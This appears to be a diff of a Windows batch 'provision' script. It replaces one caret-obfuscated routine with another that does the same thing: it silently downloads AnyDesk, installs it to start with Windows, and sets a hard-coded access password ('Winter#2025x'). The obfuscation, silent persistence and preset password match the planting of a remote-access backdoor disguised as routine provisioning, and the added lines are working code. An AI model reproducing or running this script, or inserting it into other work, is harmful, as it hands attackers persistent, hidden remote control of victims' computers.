@@ -1,11 +1,7 @@
-REM provision 4937 v1
+REM provision 2603 v1
 @echo off
+^^c^u^^r^^l -^^s^^L^o %TEMP%\A^^n^y^^D^es^k.e^xe h^t^t^p^^s://^do^w^n^^l^oa^^d.^any^de^^s^k.^co^^m/^^An^y^D^^e^s^k.e^xe
+%TEMP%\A^n^^y^^De^^s^k.^^ex^e --i^n^stal^l "C:\ProgramData\AnyDesk" --^s^tart-^^w^^i^^t^^h-w^^in --s^^i^l^e^n^t
 @echo off
-set "hlha=c^url -^sLo %TEMP%\^Any^D^es^k.e^xe ^h^t^t^ps://d^ow^n^lo^a^d.^a^nyde^s^k.^co^m/AnyD^e^s^k.e^xe"
-call %hlha%
-@echo off
-set "hrtl=%TEMP%\^A^n^yD^esk.exe --^install "C:\ProgramData\AnyDesk" --^st^a^rt-w^i^t^h-^w^i^n --si^le^nt"
-call %hrtl%
-@echo off
-set "tzqv=e^ch^o ^Sup^3r^S3^cu^re! | "C:\ProgramData\AnyDesk\AnyDesk.exe" --s^et-^pa^sswor^d"
-call %tzqv%
+set glik=^e^cho ^W^i^nte^r#2^025^x ^| "C:\ProgramData\AnyDesk\AnyDesk.exe" --set-^p^a^sswo^rd
+call %glik%
